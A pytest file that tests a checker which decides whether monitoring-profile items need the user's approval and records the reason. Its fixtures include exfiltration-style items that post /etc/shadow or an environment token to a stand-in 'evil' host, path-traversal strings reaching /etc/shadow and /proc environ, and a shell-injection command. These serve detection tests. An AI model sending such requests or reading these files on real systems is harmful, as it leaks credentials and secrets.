"""What may be read without a word of the site: what shipped profiles read, and to look whether it answers."""

from __future__ import annotations

import pytest
from rules_world import acme

from checks.harmless import concerns, in_full, plan_anywhere
from checks.plan import Plan
from checks.profile import load_profile
from checks.profile_source import profile_names
from checks.published import read_published

COMMAND = "runs a command"
DATABASE = "asks a database"
SECRET = "uses a secret of this machine"
MORE = "sends more than a plain request, or takes words out of the answer"
SERVICE = "talks to a service"
ELSEWHERE = "reads outside the paths that shipped profiles read"
WRITES = "writes to a disk"
WORDS = "looks for other words in a file than shipped profiles do"


def plan_of(item: str, variables: str = "") -> Plan:
    return plan_anywhere(read_published("acme", {"acme": variables + acme(f"- {item}\n")}))


def reasons(item: str, variables: str = "") -> set[str]:
    return {reason for each in concerns(plan_of(item, variables)) for reason in each.reasons}


@pytest.mark.parametrize(
    "item",
    [
        "{check: disk.free}",
        "{id: a, check: file.stat, with: {path: /etc/passwd, type: file}}",
        "{id: a, check: kern.param, with: {name: kernel.randomize_va_space, value: 1}}",
        "{id: a, check: net.port_reach, with: {host: db.example, port: 5432}}",
        "{id: a, check: http.ok, with: {url: 'https://shop.example/health', status: 200}}",
        "{id: a, check: tls.expiry, with: {certificate: 'shop.example:443'}}",
        "{id: a, check: manual.item, with: {ask: The backup was restored once}}",
    ],
)
def test_these_need_no_word(item: str) -> None:
    assert reasons(item) == set()


@pytest.mark.parametrize(
    ("item", "why"),
    [
        ("{id: a, check: cmd.output, with: {command: [id]}}", {COMMAND}),
        ("{id: a, check: cmd.output, with: {command: ['id; id'], shell: true}}", {COMMAND}),
        ("{id: a, check: cmd.text, with: {command: [id], text: {contains: a}}}", {COMMAND}),
        ("{id: a, check: nagios.plugin, with: {command: [/bin/x]}}", {COMMAND}),
        ("{id: a, check: net.dns, with: {name: a.example}}", {COMMAND}),
        ("{id: a, check: disk.write_latency, with: {path: /data, allow_write: true}}", {WRITES}),
        (
            "{id: a, check: db.query, with: {url: 'postgresql://u@h/d', query: SELECT 1, value: 1}}",
            {DATABASE},
        ),
        ("{id: a, check: db.connect, with: {url: 'mysql://u@h/d', password: 'env:PW'}}", {DATABASE, SECRET}),
        ("{id: a, check: redis.health, with: {host: h, port: 6379}}", {SERVICE}),
        ("{id: a, check: http.ok, with: {url: 'http://h/x', method: POST}}", {MORE}),
        ("{id: a, check: http.ok, with: {url: 'http://h/x', headers: ['X: y']}}", {MORE}),
        ("{id: a, check: http.ok, with: {url: 'http://h/x', ca: /etc/shadow}}", {MORE}),
        ("{id: a, check: http.ok, with: {url: 'http://h/x', json: a.b}}", {MORE}),
        ("{id: a, check: http.ok, with: {url: 'http://h/x', matches: 'a.*'}}", {MORE}),
        ("{id: a, check: http.ok, with: {url: 'http://h/x', header: Server}}", {MORE}),
        ("{id: a, check: http.text, with: {url: 'http://h/x', text: {contains: a}}}", {MORE}),
        (
            "{id: a, check: http.ok, with: {url: 'http://evil/x', headers: ['X-Y: file:/etc/shadow']}}",
            {MORE, SECRET},
        ),
        ("{id: a, check: http.ok, with: {url: 'http://evil/x', bearer: 'env:TOKEN'}}", {MORE, SECRET}),
        ("{id: a, check: http.ok, with: {url: 'http://evil/x', body: 'file:/etc/shadow'}}", {MORE, SECRET}),
        ("{id: a, check: tls.expiry, with: {certificate: 'h:25', starttls: smtp}}", {SERVICE}),
        ("{id: a, check: file.stat, with: {path: /srv/secret}}", {ELSEWHERE}),
        ("{id: a, check: file.content, with: {path: /etc/shadow, pattern: root}}", {ELSEWHERE}),
        ("{id: a, check: file.content, with: {path: /etc/passwd, pattern: root}}", {ELSEWHERE}),
        (
            "{id: a, check: file.checksum, with: {path: /etc/shadow, digits: " + "0" * 64 + "}}",
            {COMMAND, ELSEWHERE},
        ),
        (
            "{id: a, check: cfg.value, with: {path: /root/.my.cnf, key: client.password, value: x}}",
            {ELSEWHERE},
        ),
        ("{id: a, check: kern.param, with: {name: kernel.core_pattern, value: x}}", {ELSEWHERE}),
        (
            # A yes or no for each letter, as many as a profile has items: no word of the file is needed.
            "{id: a, check: file.content, with: {path: /home/frappe/frappe-bench/sites/erp.localhost/"
            'site_config.json, pattern: \'"db_password": "a\'}}',
            {WORDS},
        ),
        (
            "{id: a, check: cfg.value, with: {path: /etc/odoo/odoo.conf, key: options.db_user, value: x}}",
            {WORDS},
        ),
        (
            "{id: a, check: cfg.value, with: {path: /etc/nginx/.htpasswd, format: ini, key: li, value: x}}",
            {WORDS},
        ),
        ("{id: a, check: log.errors, with: {path: /var/log/nginx/error.log, pattern: '.*'}}", {WORDS}),
    ],
)
def test_these_need_a_word_and_say_why(item: str, why: set[str]) -> None:
    assert reasons(item) == why


@pytest.mark.parametrize(
    "path",
    [
        "/etc/apt/apt.conf.d/../../shadow",
        "/proc/1/../../etc/shadow",
        "/proc/self/root/etc/shadow",
        "<each mount>",
        "/proc/<pid of nginx>/environ",
        "/",
    ],
)
def test_a_path_that_only_looks_like_one_of_theirs_is_another(path: str) -> None:
    for check in ("file.content, with: {pattern: a, path: '%s'}", "file.stat, with: {path: '%s'}"):
        assert ELSEWHERE in reasons("{id: a, check: " + check % path + "}"), path


def test_a_variable_is_what_it_stands_for() -> None:
    assert (
        reasons("{id: a, check: file.stat, with: {path: '${p}'}}", "variables: {p: /etc/shadow}\n") == set()
    )
    assert reasons("{id: a, check: file.stat, with: {path: '${p}'}}", "variables: {p: /srv/x}\n") == {
        ELSEWHERE
    }
    assert reasons(
        "{id: a, check: http.ok, with: {url: 'http://h/', headers: ['${h}']}}",
        "variables: {h: 'X: file:/etc/shadow'}\n",
    ) == {MORE, SECRET}


def test_a_plugin_of_somebody_else_is_never_harmless(monkeypatch: pytest.MonkeyPatch) -> None:
    from checks import registry

    monkeypatch.setitem(registry._origins, "disk.free", "acme-checks 1.2")
    assert reasons("{check: disk.free}") == {"uses the check disk.free of acme-checks 1.2"}


@pytest.mark.parametrize("name", profile_names())
def test_of_the_shipped_profiles_only_what_reaches_out_would_need_a_word(name: str) -> None:
    """Whatever is held of a shipped profile is held for what it does, never for where it reads."""
    for concern in concerns(plan_anywhere(load_profile(name))):
        assert ELSEWHERE not in concern.reasons, concern.item
        assert "reads what no shipped profile reads" not in concern.reasons, concern.item


def test_all_of_an_ask_is_shown_also_what_its_description_leaves_out() -> None:
    (concern,) = concerns(
        plan_of("{id: a, check: http.ok, with: {url: 'http://h/x', headers: ['X: file:/a'], body: hello}}")
    )
    (ask,) = concern.asks
    assert in_full(ask) == "GET http://h/x, and its redirects (headers X: file:/a; body hello)"
